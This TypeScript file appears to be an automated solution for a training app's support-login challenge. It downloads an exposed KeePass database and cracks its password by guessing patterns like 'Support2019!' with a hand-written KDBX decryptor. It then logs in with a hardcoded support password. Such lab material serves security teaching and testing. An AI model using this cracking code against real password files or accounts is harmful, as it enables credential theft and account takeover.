import type { Attack, Tools } from '#lab'

/** The entry prod of the safe. */
const PASSWORD = 'J6aVjTgOpRs@?5l!Zkq2AYnCE@RF$P'

async function logIn({ http, expect, settings }: Tools): Promise<void> {
  const answer = await http.post('/rest/user/login', {
    email: `support@${settings.domain}`,
    password: PASSWORD,
  })
  expect(answer.status === 200, `the login answered with ${answer.status}`)
}

/** Passwords that satisfy the support team's rule and are still easy to remember. */
function guesses(): string[] {
  const years = Array.from({ length: 8 }, (_, index) => 2018 + index)
  return years.flatMap((year) => ['!', '?', '&'].map((sign) => `Support${year}${sign}`))
}

const challenge = 'loginSupportChallenge'

export const attacks: Attack[] = [
  {
    challenge,
    name: 'the safe is fetched, its password guessed, and what lies in it used',
    run: async (tools) => {
      const safe = await tools.http.get('/ftp/incident-support.kdbx')
      tools.expect(safe.status === 200, `the safe was answered with ${safe.status}`)
      const tried = guesses().map((guess) => opens(safe.bytes, guess))
      const opened = (await Promise.all(tried)).filter(Boolean).length
      tools.expect(opened === 1, `${opened} guesses opened the safe`)
      await logIn(tools)
    },
  },
  { challenge, name: 'the password out of the safe, typed into the login', run: logIn },
]

/** Whether this password opens a KeePass safe (KDBX 3.1), by its own first bytes. */
async function opens(file: Uint8Array<ArrayBuffer>, password: string): Promise<boolean> {
  const { fields, body } = readHeader(file)
  const field = (id: number): Uint8Array<ArrayBuffer> => fields.get(id) ?? new Uint8Array()
  const key = await sha256(field(4), await sha256(await transform(await compositeOf(password), field(5))))
  try {
    const aes = await crypto.subtle.importKey('raw', key, 'AES-CBC', false, ['decrypt'])
    const plain = await crypto.subtle.decrypt({ name: 'AES-CBC', iv: field(7) }, aes, body)
    const start = field(9)
    return new Uint8Array(plain).slice(0, start.length).join() === start.join()
  } catch {
    return false
  }
}

type Bytes = Uint8Array<ArrayBuffer>

/** The header fields of the safe by number, and the safe itself. */
function readHeader(file: Bytes): { fields: Map<number, Bytes>; body: Bytes } {
  const fields = new Map<number, Bytes>()
  const view = new DataView(file.buffer, file.byteOffset, file.byteLength)
  let place = 12
  while (!fields.has(0)) {
    const length = view.getUint16(place + 1, true)
    fields.set(view.getUint8(place), file.slice(place + 3, place + 3 + length))
    place += 3 + length
  }
  return { fields, body: file.slice(place) }
}

async function compositeOf(password: string): Promise<Bytes> {
  return sha256(await sha256(new TextEncoder().encode(password)))
}

/** One round of AES for each half. The safe's few rounds make guessing cheap. */
async function transform(composite: Bytes, seed: Bytes): Promise<Bytes> {
  const aes = await crypto.subtle.importKey('raw', seed, 'AES-CBC', false, ['encrypt'])
  const halves = [composite.slice(0, 16), composite.slice(16)].map(async (half) => {
    const encrypted = await crypto.subtle.encrypt({ name: 'AES-CBC', iv: new Uint8Array(16) }, aes, half)
    return new Uint8Array(encrypted).slice(0, 16)
  })
  return join(await Promise.all(halves))
}

async function sha256(...parts: Bytes[]): Promise<Bytes> {
  return new Uint8Array(await crypto.subtle.digest('SHA-256', join(parts)))
}

function join(parts: Bytes[]): Bytes {
  return Uint8Array.from(parts.flatMap((part) => [...part]))
}
